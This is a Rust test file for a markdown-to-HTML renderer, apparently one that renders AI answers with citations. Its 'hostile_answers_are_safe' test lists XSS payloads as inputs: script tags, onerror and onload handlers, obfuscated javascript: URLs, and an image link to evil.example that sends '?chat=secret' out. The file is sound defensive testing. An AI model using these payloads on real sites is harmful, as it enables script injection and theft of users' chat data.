//! Hostile answers, checked against the allowlist of [`crate::safety`].

use proptest::prelude::*;

use super::*;
use crate::safety::assert_safe;

fn cite(number: i32) -> Option<String> {
    (number <= 3).then(|| format!("#s{number}"))
}

#[test]
fn a_passage_is_rendered_without_its_document() {
    let html = render_passage("### take\n\nTakes [1], see [more](#more).\n\n# More\n");
    assert_eq!(html, "<h4>take</h4>\n<p>Takes [1], see more.</p>\n<h4>More</h4>\n");
    let html = render_passage(
        "<a id=\"x\"></a>\n\n<h1 align=\"center\">Fast</h1>\n\nA <b>b</b><br>`c` <T> of [raw](../a.md#b).\n",
    );
    assert_eq!(html, "<p>Fast</p>\n<p>A b<br />\n<code>c</code> &lt;T&gt; of raw.</p>\n");
}

#[test]
fn hostile_answers_are_safe() {
    for hostile in [
        "<script>alert(1)</script>",
        "a <script src=//evil.example/x.js></script> b",
        "<img src=x onerror=alert(1)>",
        "![pixel](https://evil.example/pixel.png?chat=secret)",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](https://evil.example/?q=secret \"title\")",
        "[click](//evil.example)",
        "[click](/\\evil.example)",
        "[click](\\\\evil.example)",
        "[click](data:text/html,<script>alert(1)</script>)",
        "<https://evil.example>",
        "<javascript:alert(1)>",
        "<a@evil.example>",
        "[1]: https://evil.example\n\nIt is so [1], and [so][1].",
        "</style><script>alert(1)</script>",
        "<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\">",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x>]]>",
        "# <b onclick=alert(1)>x</b> {#id onclick=alert(1)}",
        "```\"><script>alert(1)</script>\ncode\n```",
        "```js onclick=x\ncode\n```",
        "| a | b |\n|---|:-:|\n| <img src=x> | [x](javascript:a) |",
        "[![x](https://evil.example/a.png)](https://evil.example)",
        "[a [1] b](https://evil.example)",
        "[<img src=x>](#a)",
        "`<script>` and ``[1]``",
        "&lt;script&gt; &#60;script&#62;",
        "<a href=\"https://evil.example\">x</a>",
        "<div\n\nonclick=alert(1)>",
        "[x](#\"onclick=alert(1))",
        "[x](/a\"onmouseover=\"alert(1))",
        "[^1]\n\n[^1]: <script>",
        "$$<script>$$",
    ] {
        let html = render(hostile, &cite);
        assert_safe(&html);
        assert!(!html.contains("<img") && !html.contains("<script"), "{html}");
    }
}

#[test]
fn citations_link_to_their_sources() {
    for (markdown, expected) in [
        ("So [1].", "<p>So <sup>[<a href=\"#s1\">1</a>]</sup>.</p>\n"),
        ("So [1][2].", "<p>So <sup>[<a href=\"#s1\">1</a>]</sup><sup>[<a href=\"#s2\">2</a>]</sup>.</p>\n"),
        ("So [1, 3].", "<p>So <sup>[<a href=\"#s1\">1</a>, <a href=\"#s3\">3</a>]</sup>.</p>\n"),
        ("Not [4], [x], [0] or a[1", "<p>Not [4], [x], [0] or a[1</p>\n"),
        ("`a[1]`", "<p><code>a[1]</code></p>\n"),
        ("[1]: https://evil.example\n\nSo [1].", "<p>So <sup>[<a href=\"#s1\">1</a>]</sup>.</p>\n"),
        ("**b** [1] <i>", "<p><strong>b</strong> <sup>[<a href=\"#s1\">1</a>]</sup> &lt;i&gt;</p>\n"),
        ("[here](/guide/a.md)", "<p><a href=\"/guide/a.md\">here</a></p>\n"),
        ("[there](https://example.org/a)", "<p>there (https://example.org/a)</p>\n"),
        ("# One", "<h3>One</h3>\n"),
        (
            "|a|\n|-:|\n|b|",
            "<table><thead><tr><th>a</th></tr></thead><tbody>\n<tr><td>b</td></tr>\n</tbody></table>\n",
        ),
        ("- [x] a", "<ul>\n<li>☑ a</li>\n</ul>\n"),
    ] {
        assert_eq!(render(markdown, &cite), expected, "{markdown}");
    }
}

#[test]
fn code_is_highlighted_on_request() {
    let markdown = "So [1]:\n\n```rust\nlet a = [1];\n```\n\n```nothing\n<b>\n```\n";
    assert_eq!(
        render_highlighted(markdown, &cite),
        "<p>So <sup>[<a href=\"#s1\">1</a>]</sup>:</p>\n\
         <pre tabindex=\"0\"><code class=\"language-rust\"><span class=\"c-keyword\">let</span> a = \
         [<span class=\"c-number\">1</span>];\n</code></pre>\n\
         <pre tabindex=\"0\"><code class=\"language-nothing\">&lt;b&gt;\n</code></pre>\n"
    );
    assert!(render(markdown, &cite).contains("let a = [1];"));
}

proptest! {
    #[test]
    fn any_markdown_is_safe(markdown in "[\\[\\]()<>a1 /:\"'#!`\n*&;={}|-]{0,80}") {
        assert_safe(&render(&markdown, &cite));
        assert_safe(&render_highlighted(&markdown, &cite));
        assert_safe(&render_passage(&markdown));
    }

    #[test]
    fn any_text_is_safe(markdown in any::<String>()) {
        assert_safe(&render(&markdown, &cite));
    }
}
